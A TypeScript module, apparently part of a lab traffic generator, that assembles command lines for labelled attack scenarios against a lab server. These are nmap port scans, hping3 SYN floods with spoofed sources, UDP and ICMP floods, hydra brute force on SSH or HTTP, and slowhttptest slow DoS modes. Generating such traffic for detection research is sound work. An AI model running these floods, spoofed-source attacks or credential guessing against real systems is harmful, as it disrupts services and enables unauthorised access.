/**
 * The attack segments of a lab run's plan: the command lines of each attack
 * scenario (scans, floods, brute force, slow DoS), against the lab's server.
 * Scenarios of the wide set are planned in wide_attack_segments.ts.
 *
 * @module
 */
import type { LabHost, LabNetwork } from "./lab_network.ts";
import type { AttackScenario, RunSettings } from "./run_settings.ts";
import { cmd, floodTimeoutMs, hostAddresses, PORTS } from "./_plan_parts.ts";
import type { PlannedSegment } from "./scenario_plan.ts";
import { wideAttackSegment } from "./wide_attack_segments.ts";

const HTTP_PORT = PORTS.http;
const SSH_PORT = PORTS.ssh;

/**
 * The segment of one attack scenario: the attacker's command lines against
 * `srv`, with the files of `paths` (the user and word lists, the work folder).
 */
export function attackSegment(
  scenario: AttackScenario,
  settings: RunSettings,
  attacker: LabHost,
  srv: LabHost,
  network: LabNetwork,
  paths: Record<string, string>,
): PlannedSegment {
  const a = settings.attacks;
  const base = { host: attacker.name, sourceAddresses: hostAddresses(attacker), scenario };
  switch (scenario) {
    case "nmap_syn":
    case "nmap_connect":
    case "nmap_udp": {
      const s = scenario === "nmap_syn"
        ? a.nmapSyn
        : scenario === "nmap_connect"
        ? a.nmapConnect
        : a.nmapUdp;
      const flag = scenario === "nmap_syn" ? "-sS" : scenario === "nmap_connect" ? "-sT" : "-sU";
      const target = s.ipv6 ? srv.ipv6 : srv.ipv4;
      const ports = `${s.firstPort}-${s.lastPort}`;
      const argv = ["nmap", "-n", "-Pn", flag];
      if (s.ipv6) argv.push("-6");
      argv.push(
        "-p",
        ports,
        `-T${s.timing}`,
        "--max-retries",
        "1",
        "--host-timeout",
        "60s",
        target,
      );
      return {
        ...base,
        label: "portscan",
        target: { addresses: [target], protocol: scenario === "nmap_udp" ? "udp" : "tcp", ports },
        commands: [cmd(argv, 90_000)],
        params: { ...s },
      };
    }
    case "syn_flood": {
      const s = a.synFlood;
      const spoofed = network.spoofPool.slice(0, s.spoofedSources);
      const sources = spoofed.length > 0 ? spoofed.map((p) => p.ipv4) : [null];
      const perSource = Math.max(1, Math.ceil(s.count / sources.length));
      const commands = sources.map((src) => {
        const argv = [
          "hping3",
          "-q",
          "-S",
          "-p",
          String(s.dstPort),
          "-c",
          String(perSource),
          "-i",
          `u${s.intervalUs}`,
        ];
        if (s.payloadBytes > 0) argv.push("-d", String(s.payloadBytes));
        if (src !== null) argv.push("-a", src);
        argv.push(srv.ipv4);
        return cmd(argv, floodTimeoutMs(perSource, s.intervalUs));
      });
      return {
        ...base,
        label: "syn_flood",
        sourceAddresses: [...hostAddresses(attacker), ...spoofed.map((p) => p.ipv4)],
        target: { addresses: [srv.ipv4], protocol: "tcp", ports: String(s.dstPort) },
        commands,
        params: { ...s },
      };
    }
    case "udp_flood": {
      const s = a.udpFlood;
      const argv = [
        "hping3",
        "-q",
        "--udp",
        "-p",
        String(s.dstPort),
        "-c",
        String(s.count),
        "-i",
        `u${s.intervalUs}`,
      ];
      if (s.payloadBytes > 0) argv.push("-d", String(s.payloadBytes));
      argv.push(srv.ipv4);
      return {
        ...base,
        label: "udp_flood",
        target: { addresses: [srv.ipv4], protocol: "udp", ports: String(s.dstPort) },
        commands: [cmd(argv, floodTimeoutMs(s.count, s.intervalUs))],
        params: { ...s },
      };
    }
    case "icmp_flood": {
      const s = a.icmpFlood;
      const commands = Array.from({ length: s.bursts }, () => {
        const argv = ["hping3", "-q", "--icmp", "-c", String(s.count), "-i", `u${s.intervalUs}`];
        if (s.payloadBytes > 0) argv.push("-d", String(s.payloadBytes));
        argv.push(srv.ipv4);
        return cmd(argv, floodTimeoutMs(s.count, s.intervalUs), 300);
      });
      return {
        ...base,
        label: "icmp_flood",
        target: { addresses: [srv.ipv4], protocol: "icmp", ports: "" },
        commands,
        params: { ...s },
      };
    }
    case "bruteforce": {
      const s = a.bruteforce;
      const common = [
        "hydra",
        "-L",
        paths.userlist,
        "-P",
        paths.wordlist,
        "-t",
        String(s.tasks),
        "-I",
        "-w",
        "10",
      ];
      const argv = s.service === "ssh"
        ? [...common, `ssh://${srv.ipv4}:${SSH_PORT}`]
        : [...common, "-f", `http-get://${srv.ipv4}:${HTTP_PORT}/private/`];
      return {
        ...base,
        label: "bruteforce",
        target: {
          addresses: [srv.ipv4],
          protocol: "tcp",
          ports: String(s.service === "ssh" ? SSH_PORT : HTTP_PORT),
        },
        commands: [cmd(argv, 150_000, 0, paths.work)],
        params: { ...s },
      };
    }
    case "slow_dos": {
      const s = a.slowDos;
      const flag = { slowloris: "-H", slowbody: "-B", slowread: "-X" }[s.mode];
      const path =
        { slowloris: "/", slowbody: "/cgi-bin/form.cgi", slowread: "/large.bin" }[s.mode];
      const argv = [
        "slowhttptest",
        flag,
        "-c",
        String(s.connections),
        "-i",
        String(s.intervalSec),
        "-l",
        String(s.durationSec),
        "-r",
        String(s.ratePerSec),
        "-p",
        "3",
        "-x",
        "24",
        "-u",
        `http://${srv.ipv4}:${HTTP_PORT}${path}`,
      ];
      if (s.mode === "slowbody") argv.push("-s", "8192");
      // Slow read: advertise a tiny window and read a few bytes at a time.
      if (s.mode === "slowread") {
        argv.push("-w", "512", "-y", "1024", "-n", String(s.intervalSec), "-z", "32");
      }
      return {
        ...base,
        label: "slow_dos",
        target: { addresses: [srv.ipv4], protocol: "tcp", ports: String(HTTP_PORT) },
        commands: [cmd(argv, (s.durationSec + 30) * 1000)],
        params: { ...s },
      };
    }
    default:
      return wideAttackSegment(scenario, settings, attacker, { network, workDir: paths.work });
  }
}
